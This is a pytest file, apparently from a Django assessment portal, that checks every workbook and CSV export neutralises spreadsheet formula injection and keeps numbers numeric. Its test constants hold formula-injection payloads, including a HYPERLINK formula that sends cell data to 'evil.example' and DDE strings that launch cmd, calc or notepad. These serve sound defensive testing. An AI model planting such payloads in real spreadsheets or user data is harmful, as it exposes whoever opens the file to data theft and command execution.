"""Every workbook and CSV the portal writes, generated from data holding text that a
spreadsheet would run as a formula — an enterprise's name and district, an expert's name, a
decision's reason, warehouse and R&D project names, the catalog's text: no cell is a formula
or starts with a formula trigger unescaped, and numbers are still numbers."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest

from evaluation import services
from evaluation.models import Assessment, Evaluation
from review import services as review_services
from scenarios.models import Scenario
from scenarios.services import catalog_version_clone, catalog_version_import

from ..conftest import complete_review, draft_assessment, login

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ENTERPRISE = '=HYPERLINK("http://evil.example/?"&A1,"甲企业")'
DISTRICT = "+区 1"
EXPERT = "@SUM(1+1)*cmd|' /C calc'!A0"
REASON = "-2+3+cmd|' /C calc'!A0"
WAREHOUSE = "=1+2"
PROJECT = "+cmd|' /C calc'!A0"
SCENARIO = "=cmd|' /C notepad'!A0"
IMPROVEMENT = -12.5  # a negative number: it stays a number, not text


def cells_of_xlsx(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_holds_no_formula(content: bytes, *hostile: str) -> list:
    cells = cells_of_xlsx(content)
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(TRIGGERS), (cell.coordinate, cell.value)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    for text in hostile:  # written, as text
        assert "'" + text in texts or any(text in t for t in texts), text
    return cells


def is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def assert_csv_holds_no_formula(content: bytes, *hostile: str) -> list[list[str]]:
    """A CSV has no types: a field is either a number (-12.5, read as one) or text that does
    not start with a trigger."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        for field in row:
            assert is_number(field) or not field.startswith(TRIGGERS), field
    fields = {field for row in rows for field in row}
    for text in hostile:
        assert "'" + text in fields or any(text in f for f in fields), text
    return rows


@pytest.fixture
def assessment(open_batch, admin_a, enterprise_a):
    """Enterprise A's draft, named like a formula, with warehouses and R&D projects named so."""
    # a district typed as text that matched no division is exported as typed
    enterprise_a.name, enterprise_a.district = ENTERPRISE, None
    enterprise_a.district_text = DISTRICT
    enterprise_a.save()
    draft = draft_assessment(enterprise_a, open_batch, admin_a)
    services.assessment_inputs_update(
        assessment=draft,
        actor=admin_a,
        period="current",
        values={
            "warehouses": [{"name": WAREHOUSE, "outbound": "1200", "average_inventory": "100"}],
            "rd_projects": [
                {"name": PROJECT, "initiated_on": "2024-01-01", "accepted_on": "2024-04-10"}
            ],
        },
    )
    return Assessment.objects.get(pk=draft.pk)


@pytest.fixture
def experts(experts):
    experts[0].first_name, experts[0].last_name = EXPERT, ""
    experts[0].save()
    return experts


@pytest.fixture
def published(under_review, province_admin):
    services.evaluation_refresh(assessment=under_review)
    for assignment in under_review.assignments.all():
        complete_review(assignment)
    review_services.assessment_decide(
        assessment=under_review,
        actor=province_admin,
        outcome="approved",
        tier="workshop",
        reason=REASON,
    )
    review_services.batch_list_publish(batch=under_review.batch, actor=province_admin)
    evaluation = Evaluation.objects.get(assessment=under_review)
    evaluation.indicators["improvement"][0] = str(IMPROVEMENT)
    evaluation.save()
    return Assessment.objects.get(pk=under_review.pk)


@pytest.mark.django_db
def test_every_export_writes_formula_like_text_as_text(
    client, api_client, published, province_admin
):
    login(client, province_admin)
    pk = published.batch.pk
    exports = {
        "/review/export.{fmt}?state=": (ENTERPRISE,),
        f"/review/batches/{pk}/export.{{fmt}}": (ENTERPRISE, DISTRICT),
        f"/review/batches/{pk}/decisions.{{fmt}}": (ENTERPRISE, REASON),
        f"/review/batches/{pk}/assignments.{{fmt}}": (EXPERT,),
        f"/public/lists/{pk}.{{fmt}}": (ENTERPRISE,),
        "/audit-log.{fmt}": (ENTERPRISE,),
    }
    for url, hostile in exports.items():
        xlsx, csv_ = client.get(url.format(fmt="xlsx")), client.get(url.format(fmt="csv"))
        assert xlsx.status_code == csv_.status_code == 200, url
        assert_xlsx_holds_no_formula(xlsx.content, *hostile)
        assert_csv_holds_no_formula(csv_.content, *hostile)

    # numbers stay numbers: the negative improvement of indicator 1 in the batch's data
    api_client.force_authenticate(province_admin)
    api = f"/api/v1/review/batches/{pk}/export/"
    cells = assert_xlsx_holds_no_formula(api_client.get(api, {"format": "xlsx"}).content)
    assert IMPROVEMENT in [c.value for c in cells if c.data_type == "n"]
    rows = assert_csv_holds_no_formula(api_client.get(api, {"format": "csv"}).content, ENTERPRISE)
    header, row = rows[0], rows[1]
    improvement = next(i for i, h in enumerate(header) if h.startswith("指标 1 ") and "改善" in h)
    assert float(row[improvement]) == IMPROVEMENT


@pytest.mark.django_db
def test_the_inputs_template_writes_names_as_text(client, api_client, assessment, admin_a):
    api_client.force_authenticate(admin_a)
    for response in (
        login(client, admin_a).get(f"/assessments/{assessment.pk}/inputs.xlsx"),
        api_client.get(f"/api/v1/assessments/{assessment.pk}/inputs/template/"),
    ):
        assert response.status_code == 200
        assert_xlsx_holds_no_formula(response.content, WAREHOUSE, PROJECT)


@pytest.mark.django_db
def test_the_inputs_template_round_trips_the_names(api_client, assessment, admin_a):
    """The apostrophe that keeps a name text is removed again when the template comes back."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    api_client.force_authenticate(admin_a)
    url = f"/api/v1/assessments/{assessment.pk}/"
    template = api_client.get(url + "inputs/template/").content
    upload = SimpleUploadedFile("inputs.xlsx", template)
    response = api_client.post(url + "inputs/import/", {"file": upload}, format="multipart")
    assert response.status_code == 200, response.content
    current = response.json()["current_inputs"]
    assert current["warehouses"][0]["name"] == WAREHOUSE
    assert current["rd_projects"][0]["name"] == PROJECT


@pytest.mark.django_db
def test_the_catalog_export_writes_formula_like_text_as_text(client, catalog, province_admin):
    draft = catalog_version_clone(version=catalog, label="2025.1")
    Scenario.objects.filter(version=draft, no=1).update(name=SCENARIO, description=REASON)
    response = login(client, province_admin).get(
        f"/admin/scenarios/catalogversion/{draft.pk}/export/xlsx/"
    )
    assert response.status_code == 200
    cells = assert_xlsx_holds_no_formula(response.content, SCENARIO, REASON)
    assert any(c.data_type == "n" and isinstance(c.value, int) for c in cells)
    # and it imports back as it was
    again = catalog_version_clone(version=catalog, label="2025.2")
    catalog_version_import(version=again, content=response.content, file_format="xlsx")
    first = Scenario.objects.get(version=again, no=1)
    assert (first.name, first.description) == (SCENARIO, REASON)


# Every module that writes a workbook or a CSV, each through portal.spreadsheets and covered
# above; a new one fails this test until it is added here and to the tests above.
WRITERS = {
    "reports/exports.py": "xlsxwriter and pandas' CSV: every export of reports/export_views.py",
    "evaluation/excel.py": "openpyxl: the indicator-input template",
    "scenarios/services.py": "tablib (openpyxl): the catalog export",
}
WRITING = re.compile(
    r"xlsxwriter\.Workbook\(|openpyxl\.Workbook\(|\.to_csv\(|\.to_excel\(|csv\.writer\("
    r"|csv\.DictWriter\(|\.export\(\w*file_format|Databook\("
)


def test_every_spreadsheet_writer_is_known():
    root = Path(__file__).resolve().parents[2]
    apps = ("portal", "scenarios", "indicators", "evaluation", "review", "reports", "config")
    writing = {
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if "migrations" not in path.parts and WRITING.search(path.read_text())
    }
    assert writing == set(WRITERS)
